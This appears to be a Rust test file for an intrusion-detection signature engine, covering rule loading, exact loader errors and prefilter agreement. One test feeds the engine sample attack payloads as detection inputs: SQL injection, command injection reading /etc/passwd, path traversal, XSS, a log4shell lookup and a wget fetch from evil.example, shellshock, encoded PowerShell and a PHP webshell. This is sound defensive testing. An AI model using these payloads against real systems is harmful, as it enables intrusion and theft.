//! Signature files: the shipped set loads cleanly and matches what it claims; loader errors name
//! file, entry, id and field with exact messages; the prefilter agrees with the reference matcher.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test fails by panicking, its helpers (which clippy.toml does not exempt) included"
)]

use std::collections::HashMap;
use std::net::IpAddr;
use std::path::{Path, PathBuf};

use nsm_tui::engine::detect::signature::{RuleFiles, SignatureError, SignatureSet};
use nsm_tui::engine::packet::{Decoded, IpInfo, TcpInfo, Transport, UdpInfo};
use nsm_tui::engine::RuleId;

/// Signature files over `std::fs`, as the pipeline provides them.
struct Fs;

impl RuleFiles for Fs {
    fn list(&self, dir: &Path) -> Result<Vec<PathBuf>, String> {
        let rd = std::fs::read_dir(dir).map_err(|e| e.to_string())?;
        Ok(rd.flatten().map(|e| e.path()).collect())
    }
    fn read(&self, path: &Path) -> Result<String, String> {
        std::fs::read_to_string(path).map_err(|e| e.to_string())
    }
}

/// In-memory signature files.
struct Mem(HashMap<PathBuf, String>);

impl RuleFiles for Mem {
    fn list(&self, _dir: &Path) -> Result<Vec<PathBuf>, String> {
        Ok(self.0.keys().cloned().collect())
    }
    fn read(&self, path: &Path) -> Result<String, String> {
        self.0
            .get(path)
            .cloned()
            .ok_or_else(|| "no such file".to_string())
    }
}

fn shipped() -> SignatureSet {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("signatures");
    let (set, errors) = SignatureSet::load_dir(&dir, &Fs);
    assert!(
        errors.is_empty(),
        "shipped signatures have errors: {errors:#?}"
    );
    set
}

fn tcp(sport: u16, dport: u16, len: usize) -> Decoded {
    let any: IpAddr = "10.0.0.1".parse().unwrap();
    Decoded {
        ip: Some(IpInfo {
            src: any,
            dst: any,
            proto: 6,
            ttl: 64,
            total_len: 40,
            fragment: None,
            has_options: false,
            ext_headers: 0,
        }),
        transport: Transport::Tcp(TcpInfo {
            src_port: sport,
            dst_port: dport,
            ..TcpInfo::default()
        }),
        payload_offset: 0,
        payload_len: len,
        ..Decoded::default()
    }
}

fn ids(set: &SignatureSet, d: &Decoded, payload: &[u8]) -> Vec<u64> {
    // The application layer the decoder would have parsed from this payload.
    let mut d = d.clone();
    if d.app.is_none() && matches!(d.transport, Transport::Tcp(_)) {
        d.app = nsm_tui::engine::applayer::parse_tcp(payload);
    }
    let d = &d;
    let fast = set.matches(d, payload);
    let slow = set.matches_reference(d, payload);
    assert_eq!(
        fast,
        slow,
        "prefilter and reference disagree on {:?}",
        String::from_utf8_lossy(payload)
    );
    fast.iter().map(|h| h.id.0).collect()
}

#[test]
fn shipped_set_loads_and_most_signatures_use_the_prefilter() {
    let set = shipped();
    assert!(set.len() >= 40, "only {} signatures", set.len());
    assert!(
        set.always_checked() * 5 < set.len(),
        "{} of {} signatures skip the prefilter",
        set.always_checked(),
        set.len()
    );
    // Teddy needs SSSE3 or AVX2, which every x86-64 server of the last decade has.
    if cfg!(target_arch = "x86_64") {
        assert!(
            set.simd_prefilter(),
            "the literal check fell back to the automaton"
        );
    }
}

#[test]
fn shipped_signatures_fire_on_attacks_and_not_on_ordinary_traffic() {
    let set = shipped();
    let cases: &[(&str, &[u8], &[u64])] = &[
        ("dvwa union", b"GET /dvwa/vulnerabilities/sqli/?id=%25%27+or+0%3D0+union+select+null%2C+version%28%29+%23&Submit=Submit HTTP/1.1\r\nHost: x\r\n\r\n", &[1000001, 1000002, 1000009]),
        ("tautology", b"GET /login?user=admin'%20OR%201=1-- HTTP/1.1\r\n\r\n", &[1000002]),
        ("comment", b"GET /login?user=admin'-- HTTP/1.1\r\n\r\n", &[1000006]),
        ("drop table", b"GET /q?x=1;DROP+TABLE+users HTTP/1.1\r\n\r\n", &[1000004]),
        ("sleep", b"GET /q?id=1+AND+SLEEP(5) HTTP/1.1\r\n\r\n", &[1000005]),
        ("passwd", b"GET /cgi?cmd=;cat%20/etc/passwd HTTP/1.1\r\n\r\n", &[1000020, 1000025, 1000042]),
        ("traversal", b"GET /../../../../etc/shadow HTTP/1.1\r\n\r\n", &[1000040, 1000041]),
        ("xss", b"GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\n\r\n", &[1000050, 1000053]),
        ("log4shell", b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n", &[1000061]),
        ("shellshock", b"GET /cgi-bin/x HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n", &[1000021, 1000060]),
        ("powershell", b"powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", &[1000027]),
        ("webshell", b"<?php eval(base64_decode($_POST['x'])); ?>", &[1000070]),
        ("sqlmap", b"GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n", &[1000081]),
        ("wget chain", b"POST /ping HTTP/1.1\r\n\r\nip=127.0.0.1; wget http://evil.example/x.sh", &[1000022]),
        ("body union", b"POST /login HTTP/1.1\r\nContent-Length: 30\r\n\r\nid=1%27+UNION+SELECT+1%2C2--+", &[1000201]),
        ("body passwd", b"POST /ping HTTP/1.1\r\n\r\nhost=x%3Bcat+%2Fetc%2Fpasswd", &[1000020, 1000225, 1000242]),
        ("cookie tautology", b"GET / HTTP/1.1\r\nCookie: id=1' or 'a'='a\r\n\r\n", &[1000102]),
        ("referer xss", b"GET / HTTP/1.1\r\nReferer: http://x/?q=<script>alert(1)</script>\r\n\r\n", &[1000150, 1000153]),
        ("ordinary page", b"GET /index.html?q=select+a+product HTTP/1.1\r\nHost: shop\r\nUser-Agent: Mozilla/5.0\r\n\r\n", &[]),
        ("html response", b"HTTP/1.1 200 OK\r\n\r\n<script>var x = function() { a(); };</script>", &[]),
        ("smtp", b"EHLO mail.example.com\r\n", &[]),
    ];
    for (name, payload, want) in cases {
        let got = ids(&set, &tcp(40000, 80, payload.len()), payload);
        assert_eq!(&got, want, "{name}");
    }
}

#[test]
fn protocol_and_port_filters_apply() {
    let (set, errors) = SignatureSet::from_sources(&[(
        "t.json".into(),
        r#"[{"signature_id":1,"description":"d","pattern":"(?i)secret","severity":"low","type":"t","protocol":"UDP","port":[53,5353]}]"#.into(),
    )]);
    assert!(errors.is_empty());
    let mut d = tcp(40000, 53, 6);
    assert!(ids(&set, &d, b"SECRET").is_empty(), "TCP is filtered out");
    d.transport = Transport::Udp(UdpInfo {
        src_port: 5353,
        dst_port: 9,
    });
    assert_eq!(ids(&set, &d, b"SECRET"), vec![1], "either port matches");
    d.transport = Transport::Udp(UdpInfo {
        src_port: 1,
        dst_port: 2,
    });
    assert!(ids(&set, &d, b"SECRET").is_empty());
}

fn load_one(text: &str) -> (SignatureSet, Vec<String>) {
    let (set, errors) = SignatureSet::from_sources(&[("rules.json".into(), text.into())]);
    (set, errors.iter().map(ToString::to_string).collect())
}

#[test]
fn loader_errors_are_exact_and_bad_entries_are_skipped() {
    let good =
        r#"{"signature_id":1,"description":"ok","pattern":"abc","severity":"High","type":"t"}"#;
    let cases: &[(&str, &str)] = &[
        (
            r#"{"signature_id":2,"description":"d","pattern":"(abc","severity":"High","type":"t"}"#,
            r#"rules.json: entry [1] (signature_id 2): field "pattern": invalid regex "(abc" at position 0: unclosed group"#,
        ),
        (
            r#"{"signature_id":2,"description":"d","pattern":"ab[c","severity":"High","type":"t"}"#,
            r#"rules.json: entry [1] (signature_id 2): field "pattern": invalid regex "ab[c" at position 2: unclosed character class"#,
        ),
        (
            r#"{"signature_id":2,"description":"d","severity":"High","type":"t"}"#,
            r#"rules.json: entry [1] (signature_id 2): field "pattern": missing"#,
        ),
        (
            r#"{"description":"d","pattern":"x","severity":"High","type":"t"}"#,
            r#"rules.json: entry [1]: field "signature_id": missing"#,
        ),
        (
            r#"{"signature_id":"7","description":"d","pattern":"x","severity":"High","type":"t"}"#,
            r#"rules.json: entry [1]: field "signature_id": expected a positive integer, found "7""#,
        ),
        (
            r#"{"signature_id":2,"description":["d"],"pattern":"x","severity":"High","type":"t"}"#,
            r#"rules.json: entry [1] (signature_id 2): field "description": expected a string, found ["d"]"#,
        ),
        (
            r#"{"signature_id":2,"description":"d","pattern":"x","severity":"urgent","type":"t"}"#,
            r#"rules.json: entry [1] (signature_id 2): field "severity": unknown severity "urgent" (expected Low, Medium, High or Critical)"#,
        ),
        (
            r#"{"signature_id":2,"description":"d","pattern":"x","severity":"High","type":"t","port":70000}"#,
            r#"rules.json: entry [1] (signature_id 2): field "port": expected a port number 0-65535 or a list of them, found 70000"#,
        ),
        (
            r#"{"signature_id":2,"description":"d","pattern":"x","severity":"High","type":"t","port":[80,"http"]}"#,
            r#"rules.json: entry [1] (signature_id 2): field "port": expected a port number 0-65535 or a list of them, found "http""#,
        ),
        (
            r#"{"signature_id":2,"description":"d","pattern":"x","severity":"High","type":"t","protocol":"SCTPX"}"#,
            r#"rules.json: entry [1] (signature_id 2): field "protocol": unknown protocol "SCTPX" (expected TCP, UDP, ICMP, ICMPv6, IP or ANY)"#,
        ),
        (
            r#"{"signature_id":9000001,"description":"d","pattern":"x","severity":"High","type":"t"}"#,
            r#"rules.json: entry [1] (signature_id 9000001): field "signature_id": 9000001 is out of range (1 to 8999999; higher ids are built-in rules)"#,
        ),
        (
            r#""just a string""#,
            r#"rules.json: entry [1]: expected an object, found "just a string""#,
        ),
    ];
    for (bad, want) in cases {
        let (set, errors) = load_one(&format!("[{good},{bad}]"));
        assert_eq!(errors, vec![want.to_string()]);
        assert_eq!(set.len(), 1, "the good entry still loads beside {bad}");
        assert_eq!(set.signatures()[0].id, RuleId(1));
    }
}

#[test]
fn whole_file_errors_and_duplicates_across_files() {
    let (_, errors) = load_one("[{\"signature_id\": 1,\n  \"description\": }]");
    assert_eq!(
        errors,
        vec!["rules.json: line 2, column 18: invalid JSON: expected value".to_string()]
    );
    let (_, errors) = load_one(r#"{"signature_id":1}"#);
    assert_eq!(
        errors,
        vec![
            r#"rules.json: expected a JSON list of signatures, found {"signature_id":1}"#
                .to_string()
        ]
    );

    let sig = |id: u64| {
        format!(
            r#"[{{"signature_id":{id},"description":"d","pattern":"x","severity":"Low","type":"t"}}]"#
        )
    };
    let files = Mem(HashMap::from([
        (PathBuf::from("rules/a.json"), sig(5)),
        (PathBuf::from("rules/b.json"), sig(5)),
        (PathBuf::from("rules/c.txt"), "not json".to_string()),
    ]));
    let (set, errors) = SignatureSet::load_dir(Path::new("rules"), &files);
    assert_eq!(set.len(), 1);
    assert_eq!(
        errors,
        vec![SignatureError::Duplicate {
            file: "rules/b.json".into(),
            index: 0,
            id: 5,
            first_file: "rules/a.json".into(),
            first_index: 0
        }]
    );
    assert_eq!(
        errors[0].to_string(),
        "rules/b.json: entry [0] (signature_id 5): duplicate signature_id, already defined in rules/a.json entry [0]"
    );
    let (_, errors) = SignatureSet::load_file(Path::new("rules/missing.json"), &files);
    assert_eq!(
        errors[0].to_string(),
        "rules/missing.json: cannot read: no such file"
    );
}

#[test]
fn alert_quotes_match_and_offset() {
    use nsm_tui::engine::frame::{LinkType, RawFrame, Ts};
    use nsm_tui::engine::record::Analyzed;
    let set = shipped();
    let payload = b"GET /x?id=1%27+UNION+SELECT+1 HTTP/1.1\r\n\r\n".to_vec();
    let a = Analyzed {
        pcap_cnt: 7,
        frame: RawFrame {
            ts: Ts(1),
            linktype: LinkType::RAW,
            iface: 0,
            orig_len: 0,
            data: payload.clone(),
        },
        decoded: tcp(40000, 80, payload.len()),
        alerts: vec![],
        stream_http: Vec::new(),
    };
    let mut out = Vec::new();
    set.check(&a, &mut out);
    let union = out
        .iter()
        .find(|x| x.rule == RuleId(1000001))
        .expect("UNION SELECT alert");
    assert_eq!(union.packet, 7);
    assert_eq!(&*union.category, "SQL Injection");
    assert_eq!(union.evidence["decoded"], true);
    assert_eq!(union.evidence["offset"], 0);
    assert!(
        union
            .explanation
            .starts_with("matched \"GET /x?id=1\\' UNION SELECT\" at offset 0 of the URL-decoded"),
        "{}",
        union.explanation
    );
}
